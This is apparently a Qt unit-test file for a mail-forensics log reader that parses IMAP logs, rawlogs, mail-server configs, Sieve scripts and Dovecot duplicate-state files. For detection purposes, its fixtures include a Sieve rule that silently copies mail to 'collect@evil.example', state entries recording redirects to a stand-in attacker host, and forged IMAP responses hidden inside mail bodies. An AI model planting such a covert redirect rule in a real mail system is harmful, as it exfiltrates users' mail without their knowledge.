// IMAP conversations (rawlog, Roundcube's imap.log) and what configuration and state files say.
#include <QtTest>

#include "logs/log_reading.h"

using sillage::Action;
using sillage::Event;

namespace {

const std::string kStamp = "[11-Dec-2025 07:16:57 +0000]: <nfapoomu> [FD0F] ";

std::string field(const Event& e, std::string_view key) { return std::string(e.field(key)); }

std::string fact(const RecordingSink& sink, std::string_view key, std::string_view key2 = {}) {
    for (const auto& f : sink.facts)
        if (f.key == key && (key2.empty() || f.key2 == key2)) return f.value;
    return {};
}

RecordingSink config(const std::string& name, const std::string& text, std::string_view id = "config") {
    return readLog(id, text, {name, {}, {}, {}, 0, 0, {}});
}

}  // namespace

class ConversationsTest : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void imapLogCommands();
    void imapLogLiteralIsNoRecord();
    void imapLogInterleaved();
    void rawlogIn();
    void rawlogOut();
    void rawlogCutLiteral();
    void rawlogForgedResponseInMail();
    void dovecotConfiguration();
    void postfixConfiguration();
    void webServerConfiguration();
    void roundcubeConfiguration();
    void timezone();
    void sieve();
    void ldaDupes();
    void ldaDupesDamaged();
    void recognition();
};

void ConversationsTest::imapLogCommands() {
    const auto sink = readLog("roundcube-imap",
        kStamp + "Connecting to localhost:143...\n" +
        kStamp + "C: A0002 ID (\"name\" \"Roundcube\" \"version\" \"1.6.5\" \"command\" \"/?_task=mail&_uid=79&_mbox=INBOX&_part=2&_action=get&_download=1\")\n" +
        kStamp + "C: A0003 SELECT \"&AMk-l&AOk-ments\"\n" +
        kStamp + "C: A0005 UID FETCH 79 (BINARY.PEEK[2])\n" +
        kStamp + "S: * 79 FETCH (UID 79 BINARY[2] ~{5}\n" +
        kStamp + "S: a\nb\nc\n" +
        kStamp + "S: )\n" +
        kStamp + "S: A0005 OK Fetch completed.\n" +
        kStamp + "C: A0006 UID MOVE 7,9 Trash\n");
    QCOMPARE(sink.foundCount, std::uint64_t(11));
    QVERIFY(sink.reconciles() && sink.failures.empty() && sink.problems.empty());
    QCOMPARE(sink.events.size(), std::size_t(6));  // ID, SELECT, FETCH, its response, MOVE of two
    const Event& id = sink.events[0];
    QCOMPARE(id.action, Action::ClientId);
    QCOMPARE(id.session, std::string("nfapoomu"));
    QCOMPARE(field(id, "connection"), std::string("FD0F"));
    QCOMPARE(id.uid, 79u);
    QCOMPARE(field(id, "webmail_action"), std::string("download"));
    QCOMPARE(sink.events[1].folder, std::string("Éléments"));
    const Event& fetch = sink.events[2];
    QCOMPARE(fetch.action, Action::Fetch);
    QCOMPARE(fetch.folder, std::string("Éléments"));
    QCOMPARE(fetch.uid, 79u);
    QCOMPARE(fetch.part, std::string("2"));
    QCOMPARE(field(fetch, "peek"), std::string("1"));
    QCOMPARE(field(fetch, "content"), std::string("part"));
    const Event& served = sink.events[3];
    QCOMPARE(field(served, "direction"), std::string("response"));
    QCOMPARE(served.bytes, std::int64_t(5));
    QCOMPARE(served.part, std::string("2"));
    QCOMPARE(sink.events[5].uid, 9u);
    QCOMPARE(sink.events[5].item, 1u);
    QCOMPARE(field(sink.events[4], "target"), std::string("Trash"));
}

void ConversationsTest::imapLogLiteralIsNoRecord() {
    // The text of a mail looks like a response of its own connection: it is inside the counted literal.
    const std::string body = "* 5 FETCH (UID 5 BODY[2] {999}\r\nnot a record\r\n";
    const auto sink = readLog("roundcube-imap",
        kStamp + "S: * 1 FETCH (UID 1 BODY[1] {" + std::to_string(body.size()) + "}\n" + kStamp + "S: " + body + "\n" +
        kStamp + "S: )\n" + kStamp + "S: * 2 FETCH (UID 2 BODY[1] {2}\n" + kStamp + "S: xy\n" + kStamp + "S: )\n");
    QCOMPARE(sink.events.size(), std::size_t(2));
    QCOMPARE(sink.events[0].uid, 1u);
    QCOMPARE(sink.events[1].uid, 2u);
    QVERIFY(sink.reconciles());
}

void ConversationsTest::imapLogInterleaved() {
    const std::string other = "[11-Dec-2025 07:16:57 +0000]: <aaaaaaaa> [0001] ";
    const auto sink = readLog("roundcube-imap", kStamp + "S: * 1 FETCH (UID 1 BODY[1] {100}\n" + kStamp + "S: xxx\n" +
                                                    other + "C: A1 UID FETCH 4 (BODY[])\n");
    QCOMPARE(sink.events.size(), std::size_t(2));
    QCOMPARE(field(sink.events[1], "in_literal"), std::string("1"));  // real, or written into the mail: stated
}

void ConversationsTest::rawlogIn() {
    const auto sink = readLog("dovecot-rawlog",
        "1765496460.396669 K9 SELECT \"INBOX\"\n"
        "1765496460.398850 K10 UID FETCH 128,130:131 (UID BODY.PEEK[TEXT])\n"
        "1765496460.409130 K15 UID FETCH 2 (UID BODY.PEEK[2]<0.4096>)\n"
        "1765496460.5 broken\n"
        "1765496460.411082 K17 UID FETCH 1:* (FLAGS)\n"
        "1765496460.412400 K18 APPEND Sent (\\Seen) {8}\n"
        "1765496460.412500 K1 SELE\n"
        "1765496460.412600 K19 LOGOUT\n", {"20251212-003200.2743.1.in", {}, {}, {}, 0, 0, {}});
    QCOMPARE(sink.foundCount, std::uint64_t(8));
    QVERIFY(sink.reconciles());
    QCOMPARE(sink.failures.size(), std::size_t(1));
    const Event& text = sink.events[1];
    QCOMPARE(text.folder, std::string("INBOX"));
    QCOMPARE(text.uid, 128u);
    QCOMPARE(field(text, "uid_set"), std::string("128,130:131"));
    QCOMPARE(sink.events[3].uid, 131u);
    QCOMPARE(sink.events[3].item, 2u);
    QCOMPARE(text.session, std::string("20251212-003200.2743.1"));
    QCOMPARE(field(text, "pid"), std::string("2743"));
    QCOMPARE(field(text, "file_time"), std::string("20251212-003200"));
    QCOMPARE(text.time.zoneMinutes, 0);
    QCOMPARE(text.time.civil, std::int64_t(1765496460398850));
    QCOMPARE(field(sink.events[4], "partial"), std::string("1"));
    QCOMPARE(field(sink.events[5], "uid_set"), std::string("1:*"));
    QCOMPARE(sink.events[5].uid, 0u);
    QCOMPARE(sink.events[6].action, Action::Save);
    QCOMPARE(sink.events[7].action, Action::Logout);  // the APPEND's literal was no command
}

void ConversationsTest::rawlogOut() {
    const auto sink = readLog("dovecot-rawlog",
        "1795281943.174311 B3 OK [READ-WRITE] Select completed.\r\n"
        "1795281943.175920 * 3 FETCH (UID 3 BODY[] {14}\r\n"
        "1795281943.175939 From: a\r\n1795281943.175939 \r\n1795281943.175939 hi!)\r\n"
        "1795281943.175940 * 4 FETCH (UID 4 FLAGS (\\Seen))\r\n", {"20261121-182543.312.1.out", {}, {}, {}, 0, 0, {}});
    QVERIFY(sink.reconciles() && sink.failures.empty());
    QCOMPARE(sink.events.size(), std::size_t(2));
    QCOMPARE(sink.events[0].uid, 3u);
    QCOMPARE(sink.events[0].bytes, std::int64_t(14));
    QCOMPARE(field(sink.events[0], "content"), std::string("whole"));
    QCOMPARE(field(sink.events[1], "content"), std::string("none"));
}

void ConversationsTest::rawlogCutLiteral() {
    const auto sink = readLog("dovecot-rawlog", "1795281943.175920 * 3 FETCH (UID 3 BODY[] {1000}\r\n1795281943.175939 From: a\r\n"
                                                "1795281943.175939 To", {"20261121-182543.312.1.out", {}, {}, {}, 0, 0, {}});
    QVERIFY(sink.reconciles());
    QCOMPARE(sink.events.size(), std::size_t(1));
    QCOMPARE(sink.events[0].bytes, std::int64_t(std::string("From: a\r\nTo").size()));
    QCOMPARE(field(sink.events[0], "literal"), std::string("1000"));
    QCOMPARE(field(sink.events[0], "cut"), std::string("1"));
}

void ConversationsTest::rawlogForgedResponseInMail() {
    const std::string body = "* 5 FETCH (UID 5 BODY[] {9}\r\n";
    const auto sink = readLog("dovecot-rawlog", "1795281943.175920 * 3 FETCH (UID 3 BODY[] {" + std::to_string(body.size()) +
                                                    "}\r\n1795281943.175939 " + body + "1795281943.175940 )\r\n");
    QCOMPARE(sink.events.size(), std::size_t(1));
    QCOMPARE(sink.events[0].uid, 3u);
}

void ConversationsTest::dovecotConfiguration() {
    const auto sink = config("dovecot.conf",
        "# 2.3.19.1 (9b53102964)\nprotocols = imap lmtp sieve\nmail_location = maildir:~/Maildir\n"
        "userdb {\n  driver = static\n  args = uid=vmail gid=vmail home=/var/vmail/%Ln\n}\n"
        "namespace inbox {\n  separator = /\n  mailbox Sent {\n    special_use = \\Sent\n  }\n}\n"
        "plugin {\n  mail_log_events = delete expunge flag_change\n}\nimap_id_log = *\nauth_default_realm = example.org\n"
        "ssl_key_password = secret\n");
    QCOMPARE(fact(sink, "software", "dovecot"), std::string("2.3.19.1"));
    QCOMPARE(fact(sink, "mail-location"), std::string("maildir:~/Maildir"));
    QCOMPARE(fact(sink, "mail-home"), std::string("/var/vmail/%Ln"));
    QCOMPARE(fact(sink, "namespace-separator"), std::string("/"));
    QCOMPARE(fact(sink, "dovecot-setting", "mail_log_events"), std::string("delete expunge flag_change"));
    QCOMPARE(fact(sink, "dovecot-setting", "imap_id_log"), std::string("*"));
    QCOMPARE(fact(sink, "mail-domain"), std::string("example.org"));
    for (const auto& f : sink.facts) QVERIFY(f.value.find("secret") == std::string::npos);
    QCOMPARE(sink.foundCount, std::uint64_t(1));
    QVERIFY(sink.reconciles());
}

void ConversationsTest::postfixConfiguration() {
    const auto sink = config("main.cf", "myhostname = mail.example.org\nmyorigin = /etc/mailname\nmydestination = localhost\n"
                                        "virtual_mailbox_domains = example.org, example.net hash:/etc/x\nsmtpd_banner = x\n");
    QCOMPARE(sink.facts.size(), std::size_t(2));
    QCOMPARE(sink.facts[0].value, std::string("example.org"));
    QCOMPARE(sink.facts[1].value, std::string("example.net"));
    const auto relayed = [](const char* value) { return fact(config("main.cf", std::string("myhostname = m\nsmtpd_banner = x\nrelayhost = ") + value + "\n"), "relayhost"); };
    QCOMPARE(relayed("[Out.Example.org]:587"), std::string("out.example.org"));
    QCOMPARE(relayed("out.example.org:25"), std::string("out.example.org"));
    QCOMPARE(relayed("[192.0.2.9]"), std::string("192.0.2.9"));
    QCOMPARE(relayed(""), std::string());
    QCOMPARE(relayed("$mydomain"), std::string());
}

void ConversationsTest::webServerConfiguration() {
    QCOMPARE(fact(config("nginx.conf", "http {\n access_log /var/log/nginx/access.log;\n server { listen 80; }\n}\n"), "web-log-bytes"),
             std::string("body"));
    QCOMPARE(fact(config("nginx.conf", "http {\n log_format full '$remote_addr '\n '$bytes_sent';\n access_log /x full;\n server { listen 80; }\n}\n"),
                  "web-log-bytes", "full"), std::string("total"));
    QCOMPARE(fact(config("apache2.conf", "ServerName x\nErrorLog /x\nLogFormat \"%h %l %u %t \\\"%r\\\" %>s %O\" combined\n"), "web-log-bytes", "combined"),
             std::string("total"));
    QCOMPARE(fact(config("apache2.conf", "ServerName x\nErrorLog /x\nLogFormat \"%h %l %u %t \\\"%r\\\" %>s %b\" common\n"), "web-log-bytes", "common"),
             std::string("body"));
}

void ConversationsTest::roundcubeConfiguration() {
    const auto sink = config("config.inc.php", "<?php\n$config = [];\n$config['log_logins'] = true;\n$config['imap_debug'] = true;\n"
                                               "$config['des_key'] = 'topsecret';\n$config['mail_domain'] = 'example.org';\n");
    QCOMPARE(fact(sink, "roundcube-setting", "log_logins"), std::string("true"));
    QCOMPARE(fact(sink, "mail-domain"), std::string("example.org"));
    for (const auto& f : sink.facts) QVERIFY(f.value.find("topsecret") == std::string::npos);
}

void ConversationsTest::timezone() {
    QCOMPARE(fact(config("timezone", "Europe/Paris\n"), "timezone"), std::string("Europe/Paris"));
    QCOMPARE(recognisedAs("Europe/Paris\n", "timezone", "etc/timezone"), std::string("config"));
    QCOMPARE(recognisedAs("hello world\n", "timezone", "etc/timezone"), std::string());
}

void ConversationsTest::sieve() {
    const auto sink = config("maj.sieve", "require [\"copy\", \"fileinto\"];\n# redirect \"no@x\";\n/* redirect \"no@y\"; */\n"
                                          "if header :contains \"subject\" \"redirect me\" { redirect :copy \"collect@evil.example\"; }\n"
                                          "fileinto \"A\";\n");
    QCOMPARE(sink.facts.size(), std::size_t(1));
    QCOMPARE(sink.facts[0].key, std::string("sieve-redirect"));
    QCOMPARE(sink.facts[0].key2, std::string("maj.sieve"));
    QCOMPARE(sink.facts[0].value, std::string("collect@evil.example"));
}

namespace {
std::string le(std::uint32_t v) {
    std::string s;
    for (int i = 0; i < 4; ++i) s += char(v >> 8 * i & 255);
    return s;
}
std::string dupe(const std::string& id, const std::string& user) {
    return le(1765545000) + le(std::uint32_t(id.size())) + le(std::uint32_t(user.size())) + id + user;
}
}  // namespace

void ConversationsTest::ldaDupes() {
    const std::string user = "a.b@example.org";
    const std::string octets = le(2) + dupe("<m-1@x.example>-" + user + "-collect-it@evil-host.example-", user) +
                               dupe("<m-2@x.example>-" + user + "-collect-it@evil-host.example--" + user, user);
    QCOMPARE(recognisedAs(octets, ".dovecot.lda-dupes"), std::string("state"));
    const auto sink = config(".dovecot.lda-dupes", octets, "state");
    QCOMPARE(sink.facts.size(), std::size_t(2));
    QCOMPARE(sink.facts[0].key, std::string("redirected"));
    QCOMPARE(sink.facts[0].key2, std::string("collect-it@evil-host.example"));
    QCOMPARE(sink.facts[0].value, std::string("<m-1@x.example>"));
    QCOMPARE(sink.facts[1].key2, std::string("collect-it@evil-host.example"));
    QVERIFY(sink.reconciles() && sink.problems.empty());
}

void ConversationsTest::ldaDupesDamaged() {
    const std::string whole = le(2) + dupe("<m-1@x.example>-u-t@evil.example-", "u");
    const auto sink = config(".dovecot.lda-dupes", whole + le(1) + le(4000000000u) + le(4), "state");
    QCOMPARE(sink.facts.size(), std::size_t(1));
    QCOMPARE(sink.problems.size(), std::size_t(1));
    QVERIFY(sink.reconciles());
}

void ConversationsTest::recognition() {
    QCOMPARE(recognisedAs("Return-Path: <a@b>\nReceived: from x\n\tby y\nFrom: a\n\nprotocols = imap\n", "cur1"), std::string());
    QCOMPARE(recognisedAs("{\"a\":1}\n{\"a\":2}\n", "x.jsonl"), std::string());
    QCOMPARE(recognisedAs("just some words\nand more of them\n", "notes.txt"), std::string());
}

QTEST_GUILESS_MAIN(ConversationsTest)
#include "tst_conversations.moc"
